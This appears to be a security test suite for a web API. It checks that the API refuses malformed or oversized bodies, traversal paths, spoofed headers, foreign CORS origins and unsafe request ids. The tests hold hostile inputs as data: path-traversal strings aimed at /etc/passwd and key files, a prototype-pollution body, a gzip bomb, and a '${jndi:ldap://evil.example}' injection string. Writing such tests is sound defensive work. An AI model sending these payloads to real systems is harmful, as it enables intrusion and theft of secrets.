import { gzipSync } from 'node:zlib'
import { beforeAll, describe, expect, test } from 'vitest'
import { errorEnvelopeSchema } from '#domain/contracts/error.ts'
import { allRoutes, callApi, pourInto, rawRequest, signIn, target, type Person } from './support/attack.ts'

const withBody = (await allRoutes()).filter(({ takesBody }) => takesBody)

let ada: Person
beforeAll(async () => {
  ada = await signIn('admin')
})

async function refusal(response: Response): Promise<{ status: number; code: string | undefined }> {
  return { status: response.status, code: errorEnvelopeSchema.safeParse(await response.json()).data?.code }
}

/** Bodies that are not valid requests, with the accepted response statuses. */
const bodies: [string, () => string | Uint8Array][] = [
  ['nothing', () => ''],
  ['null', () => 'null'],
  ['a number that is none', () => '1e99999'],
  ['a list', () => '[]'],
  ['half of an object', () => '{"email":"a@b.c"'],
  ['a prototype', () => '{"__proto__":{"role":"admin","email":"a@b.c"},"constructor":{"prototype":{"isAdmin":true}}}'],
  ['brackets within brackets', () => '['.repeat(7_000) + ']'.repeat(7_000)],
  ['objects within objects', () => '{"a":'.repeat(2_500) + '1' + '}'.repeat(2_500)],
  ['broken UTF-8', () => new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0x80, 0x22, 0x7d])],
  ['UTF-16', () => Buffer.from('\ufeff{"email":"a@b.c"}', 'utf16le')],
  ['zeros', () => '\0'.repeat(1_000)],
]

describe.each(withBody)('$method $path', (route) => {
  test.each(bodies)('refuses %s', async (_name, body) => {
    const { status, code } = await refusal(await callApi(route.method, route.path, { token: ada.token, body: body() }))
    expect(status).toBeGreaterThanOrEqual(400)
    expect(status).toBeLessThan(500)
    expect(code).toBeTypeOf('string')
  })

  test.each([
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'text/html',
    'application/xml',
    'application/jsonp',
    'xapplication/json',
    'text/plain, application/json',
    '',
  ])('takes nothing as %j, which another site could send without asking first', async (type) => {
    const response = await callApi(route.method, route.path, {
      token: ada.token,
      body: '{}',
      headers: { 'content-type': type },
    })
    expect(await refusal(response)).toEqual({ status: 415, code: 'not_json' })
  })

  test('reads no compressed body, however much would come out of it', async () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000, 0x20))
    const answers = await Promise.all(
      ['gzip', 'deflate', 'br'].map((coding) =>
        callApi(route.method, route.path, {
          token: ada.token,
          body: bomb,
          headers: { 'content-encoding': coding },
        }).then(refusal),
      ),
    )
    for (const { status } of answers) expect([400, 413, 415]).toContain(status)
  })

  test('stops reading what is too large, told or not', async () => {
    expect([413, 'ended']).toContain(await pourInto(route.method, `/functions/v1${route.path}`, ada.token, 8_000_000))
    // In endless pieces: the response, or the end of the connection, must come before the end.
    expect([413, 'ended']).toContain(await pourInto(route.method, `/functions/v1${route.path}`, ada.token))
  })
})

describe('addresses', () => {
  test.each([
    '/functions/v1/api/user/../admin/users',
    '/functions/v1/api/health/../admin/users',
    '/functions/v1/api/health/%2e%2e/admin/users',
    '/functions/v1/api/health/..%2fadmin%2fusers',
    '/functions/v1/api/%61dmin/users',
    '/functions/v1/api//admin/users',
    '/functions/v1//api/admin/users',
    '/functions/v1/api/admin//users',
    '/functions/v1/api/admin/users/',
    '/functions/v1/api/admin/users;x=/api/health',
    '/functions/v1/api/admin/users%00/api/health',
    '/functions/v1/api/admin/users?/api/health',
    '/functions/v1/api/ADMIN/users',
    '/functions/v1/api\\admin\\users',
    '/functions/v1/../../auth/v1/admin/users',
    '/functions/v1/api/../../../auth/v1/admin/users',
    '/rest/v1/../../auth/v1/admin/users',
    '/auth/v1/health/../admin/users',
    '/auth/v1//admin/users',
    '/auth/v1/%61dmin/users',
    '/auth/v1/admin%2fusers',
    '/auth/v1/ADMIN/users',
    '//auth/v1/admin/users',
    '/__jira/../auth/v1/admin/users',
    '/__mailbox/../auth/v1/admin/users',
    '/__jira/../../../../etc/passwd',
    '/functions/v1/../../../../../../etc/passwd',
    '/functions/v1/api/%2e%2e/%2e%2e/%2e%2e/keys.json',
    'http://127.0.0.1:1/functions/v1/api/admin/users',
    '*',
  ])('%s leads nowhere', async (path) => {
    const variants: Record<string, string>[] = [
      {},
      { apikey: target.publishableKey },
      { host: 'localhost', 'x-original-url': '/api/health', 'x-rewrite-url': '/api/health' },
    ]
    for (const headers of variants) {
      const { status, body } = await rawRequest(path, { headers })
      expect(status).toBeGreaterThanOrEqual(400)
      expect(status).toBeLessThan(500)
      expect(body).not.toMatch(/@demo\.test|root:|sb_secret_|jwtSecret/)
    }
  })

  test('a caller says where it comes from to nobody: claimed addresses do not widen a limit', async () => {
    const email = `claimed-${Date.now()}@example.test`
    const answers: number[] = []
    for (let n = 0; n < 6; n += 1) {
      const ip = `203.0.113.${n}`
      const response = await callApi('POST', '/api/auth/forgot', {
        body: { email },
        headers: { 'x-forwarded-for': ip, 'cf-connecting-ip': ip, 'x-real-ip': ip, forwarded: `for=${ip}` },
      })
      answers.push(response.status)
    }
    expect(answers).toEqual([200, 200, 200, 200, 200, 429])
  })

  test.each(['evil.example', 'evil.example:443', '127.0.0.1.evil.example', '[::1]'])(
    'a request for the host %s gets nothing of that host',
    async (host) => {
      const { body, headers } = await rawRequest('/functions/v1/api/health', {
        headers: { host, 'x-forwarded-host': host },
      })
      expect(body + JSON.stringify(headers)).not.toContain('evil.example')
    },
  )
})

describe('pages of other sites', () => {
  const preflight = (origin: string, path: string) =>
    callApi('OPTIONS', path, {
      headers: {
        origin,
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization,content-type',
      },
    })

  test.each([
    'https://evil.example',
    'http://app.example.test',
    'https://app.example.test:8443',
    'https://app.example.test.evil.example',
    'https://evil-app.example.test',
    'https://sub.app.example.test',
    'https://APP.EXAMPLE.TEST',
    'https://app.example.test/',
    'https://app.example.test, https://evil.example',
    'null',
    'file://',
  ])('the origin %j may read nothing', async (origin) => {
    for (const path of ['/api/health', '/api/user/info', '/api/admin/users']) {
      for (const response of [
        await preflight(origin, path),
        await callApi('GET', path, { headers: { origin }, token: ada.token }),
      ]) {
        await response.body?.cancel()
        expect(response.headers.get('access-control-allow-origin')).toBeNull()
        expect(response.headers.get('access-control-allow-credentials')).toBeNull()
      }
    }
  })

  test('the site’s own may, without cookies, and a refusal can be read as well', async () => {
    for (const response of [
      await preflight(target.allowedOrigin, '/api/user/info'),
      await callApi('GET', '/api/user/info', { headers: { origin: target.allowedOrigin } }),
    ]) {
      await response.body?.cancel()
      expect(response.headers.get('access-control-allow-origin')).toBe(target.allowedOrigin)
      expect(response.headers.get('access-control-allow-credentials')).toBeNull()
      expect(response.headers.get('vary')?.toLowerCase()).toContain('origin')
    }
  })
})

describe('headers of an answer', () => {
  test.each([
    ['GET', '/api/health'],
    ['GET', '/api/user/info'],
    ['GET', '/api/nothing'],
    ['PATCH', '/api/health'],
    ['POST', '/api/auth/forgot'],
  ])('%s %s is shown by no page, kept by no cache and guessed by nobody', async (method, path) => {
    const { headers } = await callApi(method, path, method === 'POST' ? { body: '{' } : {})
    expect(headers.get('content-type')).toMatch(/^application\/json/)
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('cache-control')).toBe('no-store')
    expect(headers.get('strict-transport-security')).toMatch(/max-age=\d{8}/)
    expect(headers.get('referrer-policy')).toBe('no-referrer')
    expect(headers.get('x-powered-by') ?? headers.get('server')).toBeNull()
  })

  test.each(['a\tb', 'x'.repeat(65), '<script>', 'a b', '${jndi:ldap://evil.example}'])(
    'a request id like %j is not taken over',
    async (id) => {
      const { headers } = await callApi('GET', '/api/health', { headers: { 'x-request-id': id } })
      expect(headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/)
    },
  )

  test('the mailbox page runs nothing, whatever an e-mail holds, and tells its links to nobody', async () => {
    const { headers } = await fetch(`${target.url}/__mailbox`)
    expect(headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(headers.get('referrer-policy')).toBe('no-referrer')
  })
})
